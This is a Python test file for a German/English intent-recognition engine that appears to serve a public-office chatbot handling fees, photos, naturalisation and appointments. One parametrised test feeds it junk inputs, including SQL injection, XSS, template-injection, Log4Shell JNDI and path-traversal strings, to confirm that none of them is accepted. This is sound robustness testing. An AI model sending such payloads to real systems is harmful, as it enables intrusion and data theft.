import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from intents.corpus import OUT_OF_SCOPE, load_development, load_training
from intents.engine.engine import Engine
from intents.engine.training import train
from intents.engine.tuning import TuningPlan

_SUBJECTS = {"fees", "photo", "naturalisation", "appointment_book", "human", OUT_OF_SCOPE}


@pytest.fixture(scope="module")
def real_engine() -> Engine:
    """A few subjects of the real corpus and a few layers: seconds instead of minutes."""
    sentences = [one for one in load_training(["de", "en"]) if one.topic in _SUBJECTS]
    development = [one for one in load_development(["de", "en"]) if one.topic in _SUBJECTS]
    training = train(sentences, development, plan=TuningPlan(epochs=3, layers=3))
    return Engine(training.model, training.encoder)


@pytest.mark.parametrize(
    ("text", "language", "topic"),
    [
        ("Ich möchte einen Termin vereinbaren.", "de", "appointment_book"),
        ("Ich will die deutsche Staatsbürgerschaft beantragen", "de", "naturalisation"),
        ("Brauche ich ein neues biometrisches Passfoto?", "de", "photo"),
        ("How much do I have to pay for a residence permit?", "en", "fees"),
        ("I want to talk to a real person please", "en", "human"),
    ],
)
def test_plain_questions_are_understood(
    text: str, language: str, topic: str, real_engine: Engine
) -> None:
    understanding = real_engine.understand(text, language)
    assert (understanding.topic, understanding.accepted) == (topic, True)
    assert understanding.language == language


def test_alternatives_descend_from_the_topic(engine: Engine) -> None:
    understanding = engine.understand("was kostet ein Passbild", "de")
    confidences = [one.confidence for one in understanding.alternatives]
    assert confidences == sorted(confidences, reverse=True)
    assert understanding.alternatives[0].topic == understanding.topic
    assert understanding.alternatives[0].confidence == understanding.confidence
    assert {one.topic for one in understanding.alternatives[:2]} == {"fees", "photo"}


def test_at_most_five_alternatives_are_given(real_engine: Engine) -> None:
    assert len(real_engine.understand("Termin", "de").alternatives) == 5


def test_what_is_out_of_scope_is_not_accepted(engine: Engine) -> None:
    understanding = engine.understand("bitte Pizza dann", "de")
    assert understanding.topic is not None
    assert not understanding.accepted


def test_slots_are_read_even_when_there_is_no_topic(engine: Engine) -> None:
    understanding = engine.understand("030 23125 001", "de")
    assert understanding.topic is None
    assert understanding.slots == {"phone_number": "+493023125001"}


@pytest.mark.parametrize("text", ["", "   ", "...", "12", "😀", "\0", "\ud800"])
def test_a_text_without_letters_has_no_topic(text: str, engine: Engine) -> None:
    understanding = engine.understand(text, "de")
    assert (understanding.topic, understanding.accepted) == (None, False)
    assert understanding.confidence == 0.0
    assert understanding.alternatives == ()


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM users; DROP TABLE callbacks;--",
        "DROP TABLE students",
        "' OR '1'='1",
        "<script>alert('Termin')</script>",
        "<b>Was kostet das?</b>",
        "{{7*7}}",
        "${jndi:ldap://example.invalid/a}",
        "../../etc/passwd",
        "asdf qwer yxcv",
        "xxxxxxxxxxxxxxxxxxxxxxx",
        "Привет hello 你好 مرحبا",
        "Ich möchte einen Termin. " * 400,
        "😀 🎉 ❤️",
        "\x1b[31m\x07\x08",
    ],
)
def test_junk_is_never_answered(text: str, real_engine: Engine) -> None:
    for language in ("de", "en"):
        assert not real_engine.understand(text, language).accepted


@settings(max_examples=60, deadline=None)
@given(text=st.text(st.characters(), max_size=80), language=st.sampled_from(["de", "en"]))
@example(text="Termin 😀 " * 1000, language="de")
@example(text="Te\u0301rmin\u202e\u200d", language="en")
@example(text="İIıi ßẞ ǆ", language="de")
def test_no_text_makes_it_fail(text: str, language: str, real_engine: Engine) -> None:
    understanding = real_engine.understand(text, language)
    assert 0.0 <= understanding.confidence <= 1.0
    assert not understanding.accepted or understanding.topic is not None


@settings(max_examples=40, deadline=None)
@given(
    text=st.text(
        st.one_of(
            st.characters(categories=["So", "Sm", "Sc", "Po", "Nd", "Cc", "Cn"]),
            st.sampled_from("<>{}="),
        ),
        max_size=60,
    )
)
def test_signs_without_words_are_never_accepted(text: str, engine: Engine) -> None:
    assert not engine.understand(text, "de").accepted
